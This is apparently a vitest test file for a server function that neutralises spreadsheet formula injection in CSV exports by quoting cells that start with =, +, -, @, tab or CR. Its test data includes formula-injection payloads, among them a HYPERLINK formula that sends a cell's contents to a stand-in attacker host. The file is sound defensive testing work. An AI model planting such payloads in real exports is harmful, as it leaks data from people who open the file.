// The CSV cell of lib/spreadsheet.ts (issue 30, finding 1): what a spreadsheet would run as a
// formula gets a single quote in front; numbers the server computes stay numbers.
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { neutraliseCsvText } from '#common/csv-cell.ts';
import { csvCell, csvFile } from '#server/lib/spreadsheet.ts';

describe('csvCell', () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")'],
    ['+1+1'],
    ['-2+3'],
    ['@SUM(A1)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['-dash@example.com'],
    ['+84 912 345 678'],
  ])('%j gets a quote in front', (value) => {
    expect(csvCell(value)).toBe(`'${value}`);
  });

  test.each([
    ['Nguyễn Văn An'],
    ['an@example.com'],
    ['0912 345 678'],
    ['50%'],
    ['– '],
    [''],
    [" '=already quoted"],
    ['a=1'],
  ])('%j stays as it is', (value) => {
    expect(csvCell(value)).toBe(value);
  });

  test('the text rule is the one the browser uses for the first passwords file', () => {
    expect(neutraliseCsvText('@x')).toBe("'@x");
    expect(neutraliseCsvText('x@')).toBe('x@');
  });

  test('a number the server computes stays a number, a negative one too', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(1500000)).toBe('1500000');
    expect(csvCell('-5')).toBe("'-5");
  });
});

describe('csvFile', () => {
  test('BOM, Windows line ends, every field quoted, quotes doubled, read back as neutralised', () => {
    const file = csvFile([
      ['Tên', 'Số'],
      ['=HYPERLINK("http://evil.example/","x")', -5],
      ['a;=1+1', 3],
    ]);
    expect(file.startsWith('\uFEFF"Tên","Số"\r\n')).toBe(true);
    expect(file).toContain('"\'=HYPERLINK(""http://evil.example/"",""x"")","-5"\r\n');
    // A ';' (the separator of a Vietnamese Excel) sits inside a quoted field, never splits it.
    expect(file).toContain('"a;=1+1","3"');
    expect(parse(file.slice(1))).toEqual([
      ['Tên', 'Số'],
      ['\'=HYPERLINK("http://evil.example/","x")', '-5'],
      ['a;=1+1', '3'],
    ]);
  });
});
